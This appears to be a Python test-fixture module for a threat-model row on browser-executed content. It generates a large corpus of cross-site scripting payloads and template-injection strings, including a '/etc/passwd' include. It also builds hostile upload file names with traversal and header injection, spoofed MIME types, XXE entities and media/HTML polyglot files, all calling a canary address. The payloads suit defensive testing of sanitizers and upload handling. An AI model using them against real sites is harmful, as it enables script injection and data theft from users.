"""Texts and files that want to run in a reader's browser: row F8 of the threat model.

A script that runs says ``SAID`` on the console or in a dialog; what is loaded from elsewhere comes to the canary's
address. The shapes are those of the OWASP cheat sheet on cross-site scripting, and of the HTML Standard's elements that
run or load something.
"""

from __future__ import annotations

from dataclasses import dataclass

SAID = "2989"
RUN = f"console.log({SAID}),alert({SAID})"

MARKUP = """
<script>{run}</script>
<ScRiPt>{run}</sCrIpT >
<script/x>{run}</script>
<script
>{run}</script>
<script src=//{address}/a.js></script>
<script src="data:text/javascript,{run}"></script>
<script type=module>{run}</script>
<script type=importmap>{{"imports":{{"a":"//{address}/a.js"}}}}</script>
<<script>{run}//<</script>
<scr<script>ipt>{run}</scr</script>ipt>
<img src=x onerror={run}>
<img src=x onerror="{run}">
<img/src=x/onerror={run}>
<image src=x onerror={run}>
<img src=//{address}/a.png>
<img srcset="//{address}/a.png 1x">
<picture><source srcset=//{address}/a.png><img></picture>
<svg onload={run}>
<svg><script>{run}</script></svg>
<svg><script href=//{address}/a.js /></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>{run}</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">
<body onload={run}>
<body onpageshow={run}>
<iframe src="javascript:{run}"></iframe>
<iframe srcdoc="<script>{run}</script>"></iframe>
<iframe src=//{address}/></iframe>
<frameset onload={run}>
<object data="data:text/html,<script>{run}</script>"></object>
<object data=//{address}/a.swf></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>">
<a href="javascript:{run}">x</a>
<a href="java&#x09;script:{run}">x</a>
<form action="javascript:{run}"><input type=submit></form>
<input autofocus onfocus={run}>
<select autofocus onfocus={run}>
<textarea autofocus onfocus={run}>
<details open ontoggle={run}>
<video autoplay onloadstart={run} src=x></video>
<video><source onerror={run} src=x></video>
<audio src=x onerror={run}></audio>
<marquee onstart={run}>
<style onload={run}></style>
<style>@import "//{address}/a.css";</style>
<link rel=stylesheet href=//{address}/a.css>
<link rel=prefetch href=//{address}/a>
<link rel=preload as=script href=//{address}/a.js>
<link rel=icon href=//{address}/a.ico>
<link rel=manifest href=//{address}/a>
<meta http-equiv=refresh content="0;url=javascript:{run}">
<meta http-equiv=refresh content="0;url=//{address}/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href=//{address}/>
<div hx-get=//{address}/ hx-trigger=load></div>
<div hx-on::load={run} hx-trigger=load hx-get=/></div>
<div data-hx-get=/ data-hx-trigger=load data-hx-on:htmx:load={run}></div>
<template shadowrootmode=open><script>{run}</script></template>
<x style="animation:a" onanimationstart={run}>
<noscript><p title="</noscript><img src=x onerror={run}>">
<div style="background:url(//{address}/a)">
<portal src=//{address}/>
"""

ESCAPES = """
"><script>{run}</script>
'><script>{run}</script>
" autofocus onfocus="{run}
' autofocus onfocus='{run}
` autofocus onfocus={run}
x onerror={run}
</title><script>{run}</script>
</textarea><script>{run}</script>
</style><script>{run}</script>
</script><script>{run}</script>
</pre></code><script>{run}</script>
--><script>{run}</script>
]]><script>{run}</script>
<!--<script>
\\"-{run}//
';{run}//
\\u003cscript\\u003e{run}\\u003c/script\\u003e
\\x3cscript\\x3e{run}
&lt;script&gt;{run}&lt;/script&gt;
&#60;script&#62;{run}
%3Cscript%3E{run}%3C/script%3E
+ADw-script+AD4-{run}+ADw-/script+AD4-
javascript:{run}
JaVaScRiPt:{run}
data:text/html,<script>{run}</script>
vbscript:msgbox({said})
//{address}/
http://{address}/
{{{{constructor.constructor('{run}')()}}}}
{{{{7*7}}}}{{% include '/etc/passwd' %}}
${{{run}}}
<%= {run} %>
</span>{{{{ '<script>{run}</script>'|safe }}}}
"""


def texts(address: str) -> list[str]:
    """What is given as a name, a title, a description, a tag, a key or value of metadata."""
    lines = (MARKUP.strip("\n").replace("\n>", "\r>") + "\n" + ESCAPES.strip("\n")).split("\n")
    found = [line.replace("\r>", "\n>").format(run=RUN, address=address, said=SAID) for line in lines]
    script = f"<script>{RUN}</script>"
    return [
        *found,
        f"a\n\ndata: {script}\n\n",
        f"a\r\nevent: run\r\ndata: {script}",
        f"a\u2028{RUN}//",
        f"\u202e{script}",
        f"<scr\u200bipt>{RUN}</script>",
        f"\ufeff{script}",
        f"<\u017fcript>{RUN}</\u017fcript>",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    ]


@dataclass(frozen=True)
class File:
    """An upload: what it calls itself, and what it holds."""

    filename: str
    media_type: str
    data: bytes


def files(address: str) -> list[File]:
    html = f"<!doctype html><html><body><script>{RUN}</script><img src=//{address}/a.png></body></html>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
    made = [File(name, "text/html", html.encode()) for name in NAMES]
    made += [File("clip.mp4", kind, html.encode()) for kind in TYPES]
    made += [File(name, kind, data if isinstance(data, bytes) else data.encode())
             for name, kind, data in _documents(html, svg, address)]  # fmt: skip
    return made + [File(name, kind, data) for name, kind, data in _polyglots(html.encode())]


NAMES = (
    "a.html", "a.htm", "a.xhtml", "a.shtml", "a.html.png", "a.png.html", "a.mp4", "a.svg", "a.js", "a.json", "a.csv",
    "a.yaml", "a.mkv", ".html", "a.html ", "a.html.", 'a".html', "a'.html", "a;.html", "a.html;.png", "a\\.html",
    "../../a.html", "..\\..\\a.html", "/etc/cron.d/a", "C:\\a.html", "a%0d%0aX-Injected: 1.html", "a%22.html",
    "a\u202elmth.png", "a\u2028.html", "a\u0085.html", "a\t.html", '"; filename="b.html', "a.html; filename*=UTF-8''b",
    "=?utf-8?q?a.html?=", "\uff0e\uff0e\uff0fa.html", "CON.html", "a" * 400 + ".html", "\U0001f600.html",
    "<img src=x onerror=" + RUN + ">.png", "{{7*7}}.html", "${HOME}.html", "a,b.html", "a=b.html", "%s%n.html",
    "*.html",
)  # fmt: skip
"""File names; each is of a page with a script."""

TYPES = (
    "text/html", "text/html; charset=utf-7", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/xml",
    "application/javascript", "text/css", "multipart/x-mixed-replace; boundary=x", "message/rfc822", "image/png",
    "video/mp4", "application/pdf", "application/x-shockwave-flash", "text/plain", "*/*", "text/html,video/mp4",
    "x-x/y", "text", "", "application/octet-stream;type=text/html", "text/cache-manifest", "application/wasm",
)  # fmt: skip
"""Types that an upload may claim; each is of a page with a script, called clip.mp4."""


def _documents(html: str, svg: str, address: str) -> list[tuple[str, str, str | bytes]]:
    xsl = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//{address}/a.xsl"?><a/>'
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://{address}/b">]><a>&b;</a>'
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'
    return [
        ("a.html", "text/html", f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-"),
        ("a.html", "text/html", "\ufeff" + html),
        ("a.html", "text/html", html.encode("utf-16")),
        ("a.html", "text/html", html.encode("utf-32")),
        ("a.html", "text/html", b"\x1b$B" + html.encode()),
        ("a.html", "text/html", " " * 600 + html),
        ("a.html", "text/html", "\0" + html),
        ("a.html", "text/html", f"<base href=//{address}/><script src=a.js></script>"),
        ("a.html", "text/html", f"<meta http-equiv=refresh content='0;url=//{address}/'>"),
        ("a.html", "text/html", f"<iframe src=//{address}/></iframe><form action=//{address}/><input autofocus>"),
        ("a.svg", "image/svg+xml", svg),
        ("a.svg", "image/svg+xml", '<?xml version="1.0"?><!-- x -->' + svg),
        ("a.svg", "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="//{address}/a.png"/></svg>'),
        ("a.svgz", "image/svg+xml", b"\x1f\x8b\x08\x00" + bytes(20)),
        ("a.xml", "text/xml", xsl),
        ("a.xml", "text/xml", entity),
        ("a.xml", "application/rss+xml", f"<rss><channel><title>{html}</title></channel></rss>"),
        ("a.xhtml", "application/xhtml+xml", xhtml),
        ("a.xml", "text/xml", f'<?xml version="1.0"?>{xhtml}'),
        ("a.mathml", "application/mathml+xml", f"<math xmlns='http://www.w3.org/1998/Math/MathML' onload='{RUN}'/>"),
        ("a.pdf", "application/pdf", f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS({RUN})>>>>endobj"),
        ("a.pdf", "application/pdf", f"%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(http://{address}/)>>>>endobj".encode()
         + bytes(range(128, 160))),
        ("a.js", "text/javascript", RUN),
        ("a.mjs", "text/javascript", f"export default {RUN}"),
        ("sw.js", "text/javascript", f"{RUN};onfetch=()=>0"),
        ("a.css", "text/css", f'@import "//{address}/a.css";body{{background:url(//{address}/b)}}'),
        ("a.json", "application/json", f'{{"a": "<script>{RUN}</script>"}}'),
        ("a.webmanifest", "application/manifest+json", f'{{"start_url": "//{address}/"}}'),
        ("a.mht", "multipart/related", f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{html}"),
        ("a.eml", "message/rfc822", f"Subject: x\r\nContent-Type: text/html\r\n\r\n{html}"),
        ("a", "multipart/x-mixed-replace", f"--x\r\nContent-Type: text/html\r\n\r\n{html}\r\n--x--"),
        ("a.hta", "application/hta", f"<hta:application>{html}"),
        ("a.url", "text/plain", f"[InternetShortcut]\r\nURL=http://{address}/"),
        ("a.swf", "application/x-shockwave-flash", b"FWS\x06" + bytes(40)),
        ("a.wasm", "application/wasm", b"\0asm\x01\0\0\0"),
        ("a.appcache", "text/cache-manifest", f"CACHE MANIFEST\nFALLBACK:\n/ //{address}/\n"),
        ("a.ics", "text/calendar", f"BEGIN:VCALENDAR\r\nURL:javascript:{RUN}"),
        ("a.vcf", "text/vcard", f"BEGIN:VCARD\r\nURL:javascript:{RUN}"),
        ("a.m3u8", "application/vnd.apple.mpegurl", f"#EXTM3U\n#EXTINF:1,\nhttp://{address}/a.ts\n"),
        ("a.srt", "text/plain", f"1\n00:00:00,000 --> 00:00:09,000\n{html}\n"),
        ("a.vtt", "text/vtt", f"WEBVTT\n\nSTYLE\n::cue {{ background: url(//{address}/a) }}\n"),
        ("a", "text/plain", ""),
    ]  # fmt: skip


def _polyglots(html: bytes) -> list[tuple[str, str, bytes]]:
    """Files that begin as media and go on as a page or a script."""
    js = RUN.encode()
    comment = b"\xff\xfe" + (len(html) + 2).to_bytes(2, "big") + html
    length = (len(html) + 8).to_bytes(4, "big")
    return [
        ("a.gif", "image/gif", b"GIF89a" + html),
        ("a.gif", "text/html", b"GIF89a/*" + bytes(4) + b"*/=1;" + js),
        ("a.js", "text/javascript", b"GIF89a=" + js),
        ("a.gif", "image/gif", b"GIF89a\x01\0\x01\0\0\0\0!\xfe\xff" + html + b"\0;"),
        ("a.png", "image/png", b"\x89PNG\r\n\x1a\n" + html),
        ("a.png", "image/png", b"\x89PNG\r\n\x1a\n" + length[-4:] + b"tEXt" + html + bytes(4)),
        ("a.jpg", "image/jpeg", b"\xff\xd8" + comment + b"\xff\xd9"),
        ("a.jpg", "text/html", b"\xff\xd8\xff\xe0" + html),
        ("a.js", "text/javascript", b"\xff\xd8\xff\xe0/*" + bytes(8) + b"*/=1;" + js),
        ("a.webp", "image/webp", b"RIFF\x00\x10\0\0WEBP" + html),
        ("a.js", "text/javascript", b"RIFF=1/*WEBP*/;" + js),
        ("a.wav", "audio/wav", b"RIFF\x00\x10\0\0WAVE" + html),
        ("a.avi", "video/x-msvideo", b"RIFF\x00\x10\0\0AVI " + html),
        ("a.bmp", "image/bmp", b"BM/*" + bytes(10) + b"*/=1;" + js),
        ("a.ico", "image/x-icon", b"\0\0\x01\0" + html),
        ("a.tif", "image/tiff", b"II*\0" + html),
        ("a.mp4", "video/mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + length + b"free" + html),
        ("a.html", "text/html", b"\0\0\0 ftypisom" + html),
        ("a.html", "text/html", b"<!--ftypisom-->" + html),
        ("a.html", "text/html", b"<a b" + b"ftypM4A " + b">" + html),
        ("a.mov", "video/quicktime", b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + html),
        ("a.webm", "video/webm", b"\x1a\x45\xdf\xa3" + html),
        ("a.mkv", "video/x-matroska", b"\x1a\x45\xdf\xa3" + html),
        ("a.ogg", "audio/ogg", b"OggS" + html),
        ("a.ogg", "text/html", b"OggS=1;" + js),
        ("a.mp3", "audio/mpeg", b"ID3\x04\0\0\0\0\x10\0" + html),
        ("a.mp3", "text/html", b"ID3" + html),
        ("a.mp3", "audio/mpeg", b"\xff\xfb\x90\0" + html),
        ("a.flac", "audio/flac", b"fLaC" + html),
        ("a.jar", "application/java-archive", b"GIF89aPK\x03\x04" + html + b"PK\x05\x06" + bytes(18)),
        ("a.zip", "application/zip", b"PK\x03\x04" + html),
        ("a.pdf", "application/pdf", b"GIF89a%PDF-1.4\n" + html),
        ("a.html", "text/html", html[:8] + b"WEBP" + html),
        ("a.html", "text/html", b"<!--    WAVE-->" + html),
        ("a.html", "text/html", b"<!--    AVI -->" + html),
    ]
